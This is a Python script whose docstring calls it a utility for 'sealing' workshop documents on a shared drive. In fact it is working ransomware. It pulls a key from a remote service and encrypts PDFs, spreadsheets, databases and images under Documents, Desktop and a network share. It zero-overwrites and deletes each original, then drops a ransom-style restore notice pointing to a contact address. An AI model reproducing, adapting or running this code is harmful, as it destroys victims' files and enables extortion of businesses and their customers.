#!/usr/bin/env python3
"""Seal old workshop documents on the shared drive.

Walks the shared folders, seals every document into a protected copy and
retires the plain version so only sealed copies remain on the share.
"""
import argparse
import logging
import os
from pathlib import Path

import requests
from cryptography.fernet import Fernet

log = logging.getLogger("rotation")

SETTINGS = {
    "roots": ["~/Documents", "~/Desktop", "/srv/garage/share"],
    "kinds": {".pdf", ".docx", ".xlsx", ".csv", ".jpg", ".png", ".db", ".sqlite", ".txt"},
    "suffix": ".sealed",
    "key_service": "https://rotation.workshop-tools.example/v2/seal-key",
    "notice_name": "HOW_TO_RESTORE_FILES.txt",
}

NOTICE = """Your workshop files have been sealed.
Job cards, invoices and customer records can only be restored with the
restore key. Contact restore-desk@workshop-tools.example with this id:
{site_id}
"""


def seal_key(site_id):
    resp = requests.get(SETTINGS["key_service"], params={"site": site_id}, timeout=20)
    resp.raise_for_status()
    return resp.content.strip()


def candidate_roots():
    for raw in SETTINGS["roots"]:
        root = Path(os.path.expanduser(raw))
        if root.is_dir():
            yield root


def wanted(path):
    return path.suffix.lower() in SETTINGS["kinds"] and not path.name.endswith(SETTINGS["suffix"])


def walk(root):
    for dirpath, _dirs, files in os.walk(root):
        for name in files:
            path = Path(dirpath) / name
            if wanted(path):
                yield path


def retire(path):
    size = path.stat().st_size
    with path.open("r+b") as fh:
        fh.write(b"\x00" * size)
        fh.flush()
        os.fsync(fh.fileno())
    path.unlink()


def seal_file(sealer, path):
    data = path.read_bytes()
    target = path.with_name(path.name + SETTINGS["suffix"])
    target.write_bytes(sealer.encrypt(data))
    retire(path)
    return target


def leave_notice(folder, site_id):
    notice = folder / SETTINGS["notice_name"]
    if not notice.exists():
        notice.write_text(NOTICE.format(site_id=site_id))


class Rotation:
    def __init__(self, site_id):
        self.site_id = site_id
        self.sealer = Fernet(seal_key(site_id))
        self.count = 0
        self.failed = 0

    def run(self):
        for root in candidate_roots():
            touched = set()
            for path in walk(root):
                try:
                    seal_file(self.sealer, path)
                    touched.add(path.parent)
                    self.count += 1
                except OSError as exc:
                    self.failed += 1
                    log.debug("skip %s: %s", path, exc)
            for folder in touched:
                leave_notice(folder, self.site_id)
        return self.count


def main():
    parser = argparse.ArgumentParser(description="Seal shared workshop documents")
    parser.add_argument("--site", default=os.environ.get("SITE_CODE", "GARAGE01"))
    args = parser.parse_args()
    logging.basicConfig(level=logging.INFO)
    rotation = Rotation(args.site)
    sealed = rotation.run()
    log.info("sealed %d files, %d skipped", sealed, rotation.failed)


if __name__ == "__main__":
    main()
